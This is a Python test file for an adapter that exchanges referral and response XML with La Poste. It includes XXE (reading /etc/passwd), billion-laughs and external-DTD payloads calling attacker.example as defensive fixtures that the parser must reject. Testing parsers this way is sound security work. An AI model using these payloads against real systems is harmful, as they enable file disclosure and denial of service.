"""La Poste's XML format, both ways (specs/partners.md, `la-poste`), XML attacks included."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from defusedxml import ElementTree
from pimms_partner_gateways.adapters.base import BadPartnerMessage
from pimms_partner_gateways.adapters.la_poste import ADAPTER as LA_POSTE
from pimms_partner_gateways.domain.model import Dossier, Referral

NS = "urn:laposte:mediation:pimms:1"
REFERENCE = "3f2b8c1e-5d4a-4e8b-9c7d-1a2b3c4d5e6f"


def q(name: str) -> str:
    return f"{{{NS}}}{name}"


def reponse(
    etat: str = "recue",
    *,
    body: str = "",
    attributes: str = "",
    horodatage: str = "2026-12-01T14:00:00+01:00",
) -> bytes:
    return (
        f'<reponse xmlns="{NS}" reference="{REFERENCE}" etat="{etat}" horodatage="{horodatage}"'
        f"{attributes}>{body}</reponse>"
    ).encode()


@pytest.fixture
def postal(make_dossier: Callable[..., Dossier]) -> Dossier:
    return make_dossier(category="postal_service")


# --- referrals to La Poste ---


def test_the_referral_is_the_specification_example_byte_for_byte(
    postal: Dossier, referral: Referral, read_golden: Callable[[str], bytes]
) -> None:
    assert LA_POSTE.to_referral(postal, referral) == read_golden("la_poste_referral.xml")


def test_no_telephone_element_without_sms_consent(
    make_dossier: Callable[..., Dossier], referral: Referral
) -> None:
    for dossier in (
        make_dossier(category="postal_service", sms=False, phone=None),
        replace(make_dossier(category="postal_service"), consent_sms=False),
    ):
        payload = LA_POSTE.to_referral(dossier, referral)
        assert b"telephone" not in payload
        usager = ElementTree.fromstring(payload).find(q("usager"))
        assert usager is not None
        assert [child.tag for child in usager] == [q("nom"), q("prenom"), q("codePostal")]


def test_no_email_ever(make_dossier: Callable[..., Dossier], referral: Referral) -> None:
    dossier = make_dossier(category="postal_service", email="marie@example.org", email_consent=True)
    assert b"example.org" not in LA_POSTE.to_referral(dossier, referral)


@pytest.mark.parametrize(
    ("urgency", "priorite"), [("high", "haute"), ("normal", "normale"), ("low", "basse")]
)
def test_priority(
    make_dossier: Callable[..., Dossier], referral: Referral, urgency: str, priorite: str
) -> None:
    payload = LA_POSTE.to_referral(
        make_dossier(category="postal_service", urgency=urgency), referral
    )
    objet = ElementTree.fromstring(payload).find(q("objet"))
    assert objet is not None
    assert objet.get("priorite") == priorite


def test_special_characters_cannot_break_the_document(
    make_dossier: Callable[..., Dossier], referral: Referral
) -> None:
    summary = 'Colis <urgent> & "fragile"\n\tà l\'étage'
    dossier = make_dossier(
        category="postal_service",
        summary=summary,
        last_name="O'Brien & <Fils>",
        first_name='Zoë "Zo"',
        mediator_id='m"42 & <b>',
    )
    payload = LA_POSTE.to_referral(dossier, referral)
    assert b'Colis &lt;urgent&gt; &amp; "fragile"' in payload
    assert b'mediateur="m&quot;42 &amp; &lt;b&gt;"' in payload
    root = ElementTree.fromstring(payload)  # well-formed
    objet, site = root.find(q("objet")), root.find(q("site"))
    assert objet is not None
    assert site is not None
    assert objet.text == summary
    assert site.get("mediateur") == 'm"42 & <b>'
    assert root.findtext(f"{q('usager')}/{q('nom')}") == "O'Brien & <Fils>"
    assert root.findtext(f"{q('usager')}/{q('prenom')}") == 'Zoë "Zo"'
    assert "étage".encode() in payload  # UTF-8, no character references


def test_the_request_date_keeps_its_offset(
    make_dossier: Callable[..., Dossier], referral: Referral
) -> None:
    dossier = make_dossier(category="postal_service", submitted_at="2026-06-02T07:00:00+02:00")
    root = ElementTree.fromstring(LA_POSTE.to_referral(dossier, referral))
    assert root.get("horodatage") == "2026-06-02T07:00:00+02:00"


def test_the_cancellation_is_the_golden_file(
    referral: Referral, read_golden: Callable[[str], bytes]
) -> None:
    at = datetime(2026, 11, 27, 9, 15, 0, 999999, tzinfo=UTC)
    assert LA_POSTE.to_cancellation(referral, at) == read_golden("la_poste_cancellation.xml")


# --- answers from La Poste ---


@pytest.mark.parametrize(
    ("etat", "status"),
    [
        ("recue", "received"),
        ("acceptee", "accepted"),
        ("en-cours", "in_progress"),
        ("attente-usager", "on_hold"),
    ],
)
def test_states(etat: str, status: str) -> None:
    result = LA_POSTE.from_response(reponse(etat, body="<commentaire>Pris en compte</commentaire>"))
    assert (result.reference, result.status, result.outcome, result.reason) == (
        REFERENCE,
        status,
        None,
        None,
    )
    assert result.reported_at == datetime(2026, 12, 1, 13, 0, tzinfo=UTC)
    assert result.reported_at.utcoffset() == timedelta(hours=1)


def test_the_specification_example_answer() -> None:
    value = f"""<reponse xmlns="{NS}" reference="{REFERENCE}" etat="traitee" \
horodatage="2026-12-01T14:00:00+01:00">
  <issue>favorable</issue>
  <commentaire>Colis retrouvé et livré</commentaire>
</reponse>""".encode()
    result = LA_POSTE.from_response(value)
    assert (result.status, result.outcome) == ("completed", "resolved")


@pytest.mark.parametrize(
    ("issue", "outcome"),
    [
        ("favorable", "resolved"),
        ("defavorable", "not_resolved"),
        ("injoignable", "visitor_unreachable"),
    ],
)
def test_treated_with_each_outcome(issue: str, outcome: str) -> None:
    result = LA_POSTE.from_response(reponse("traitee", body=f"<issue>{issue}</issue>"))
    assert (result.status, result.outcome, result.reason) == ("completed", outcome, None)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<motif>hors-perimetre</motif>", "out_of_scope"),
        ("<motif>doublon</motif>", "duplicate"),
        ("<motif>adresse-inconnue</motif>", "other"),
        ("", "other"),
    ],
)
def test_rejected_with_each_reason(body: str, reason: str) -> None:
    result = LA_POSTE.from_response(reponse("rejetee", body=body))
    assert (result.status, result.outcome, result.reason) == ("rejected", None, reason)


def test_a_declaration_and_whitespace_are_fine() -> None:
    value = b'<?xml version="1.0" encoding="UTF-8"?>\n' + reponse("en-cours") + b"\n"
    assert LA_POSTE.from_response(value).status == "in_progress"


XXE = f"""<?xml version="1.0"?>
<!DOCTYPE reponse [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<reponse xmlns="{NS}" reference="{REFERENCE}" etat="recue" horodatage="2026-12-01T14:00:00+01:00">
  <commentaire>&xxe;</commentaire>
</reponse>""".encode()

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<reponse xmlns="{NS}" reference="{REFERENCE}" etat="recue" horodatage="2026-12-01T14:00:00+01:00">
  <commentaire>&lol9;</commentaire>
</reponse>""".encode()

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE reponse SYSTEM "http://attacker.example/evil.dtd">
<reponse xmlns="{NS}" reference="{REFERENCE}" etat="recue" horodatage="2026-12-01T14:00:00+01:00"/>
""".encode()


@pytest.mark.parametrize(
    ("value", "reason", "says"),
    [
        (XXE, "forbidden_xml", "DTD"),
        (BILLION_LAUGHS, "forbidden_xml", "DTD"),
        (EXTERNAL_DTD, "forbidden_xml", "DTD"),
        (None, "malformed_xml", "no value"),
        (b"", "malformed_xml", "no value"),
        (b'{"reference": "x"}', "malformed_xml", "line 1"),
        (b"<reponse><issue></reponse>", "malformed_xml", "not well-formed"),
        (reponse(body="<commentaire>&nbsp;</commentaire>"), "malformed_xml", "not well-formed"),
        (b"<reponse>\xe9</reponse>", "malformed_xml", "not well-formed"),
        (reponse().replace(NS.encode(), b"urn:other"), "schema_invalid", "<reponse>"),
        (
            f'<annulation xmlns="{NS}" reference="{REFERENCE}" '
            'horodatage="2026-12-01T14:00:00+01:00"/>'.encode(),
            "schema_invalid",
            "<reponse>",
        ),
        (
            reponse().replace(f' reference="{REFERENCE}"'.encode(), b""),
            "schema_invalid",
            "reference",
        ),
        (reponse().replace(b' etat="recue"', b""), "schema_invalid", "etat is missing"),
        (reponse(horodatage="demain"), "schema_invalid", "horodatage"),
        (reponse(horodatage="2026-12-01T14:00:00"), "schema_invalid", "offset"),
        (
            reponse("traitee", body='<issue xmlns="">favorable</issue>'),
            "schema_invalid",
            "namespace",
        ),
        (
            reponse("traitee", body="<issue>favorable</issue><issue>favorable</issue>"),
            "schema_invalid",
            "more than once",
        ),
        (reponse("traitee", body="<issue><b>favorable</b></issue>"), "schema_invalid", "text only"),
        (reponse("traitee"), "schema_invalid", "etat traitee requires an <issue>"),
        (reponse("traitee", body="<issue> </issue>"), "schema_invalid", "<issue>"),
        (reponse("annulee"), "unknown_status", "'annulee'"),
        (reponse("Recue"), "unknown_status", "'Recue'"),
        (reponse("traitee", body="<issue>bof</issue>"), "unknown_outcome", "'bof'"),
    ],
)
def test_bad_answers_are_refused_with_a_precise_reason(
    value: bytes | None, reason: str, says: str
) -> None:
    with pytest.raises(BadPartnerMessage) as caught:
        LA_POSTE.from_response(value)
    assert caught.value.reason == reason
    assert says in caught.value.error


def test_errors_never_echo_what_the_partner_wrote_about_the_visitor() -> None:
    personal = "Marie Dupont +33612345678"
    for value in (
        reponse(personal, body=f"<commentaire>{personal}</commentaire>"),
        reponse("traitee", body=f"<issue>{personal}</issue>"),
        reponse(horodatage=personal),
    ):
        with pytest.raises(BadPartnerMessage) as caught:
            LA_POSTE.from_response(value)
        for fragment in ("Marie", "Dupont", "+3361"):
            assert fragment not in caught.value.error


def test_attributes_and_elements_la_poste_added_are_ignored_and_named() -> None:
    read = LA_POSTE.read_response(
        reponse(
            "traitee",
            attributes=' priorite="haute" canal="web"',
            body="<note>x</note><issue>favorable</issue><agence><code>3</code></agence>"
            '<autre xmlns="urn:other">y</autre>',
        )
    )
    assert (read.answer.status, read.answer.outcome) == ("completed", "resolved")
    assert read.unknown_fields == {"@priorite", "@canal", "note", "agence", "autre"}
